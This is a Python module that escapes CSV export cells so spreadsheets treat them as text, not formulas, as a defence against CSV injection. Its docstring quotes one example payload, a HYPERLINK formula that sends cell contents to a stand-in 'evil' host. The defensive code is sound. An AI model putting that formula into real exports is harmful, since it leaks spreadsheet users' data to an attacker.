"""CSV downloads that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (CSV injection: a login name such as
``=HYPERLINK("http://evil/?"&A1)`` lands in the audit log without any login). Such text cells,
and header cells, get a leading ``'`` (OWASP's advice), which spreadsheets show as text.
Numbers stay numbers: a negative value is not a formula.
"""

from __future__ import annotations

from datetime import date, datetime
from numbers import Number
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` as written to a CSV cell: text that a spreadsheet would run is quoted."""
    if value is None or isinstance(value, Number | bool | date | datetime | pd.Timestamp):
        return value
    if isinstance(value, float) and pd.isna(value):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def to_csv(df: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV (no index) with every text cell and header escaped."""
    safe = df.copy()
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(
            safe[column]
        ) and not pd.api.types.is_datetime64_any_dtype(safe[column]):
            safe[column] = safe[column].map(escape_cell)
    safe.columns = [escape_cell(str(c)) for c in safe.columns]
    # CRLF rows (RFC 4180): a field holding a bare CR is then quoted, not split in two
    return safe.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
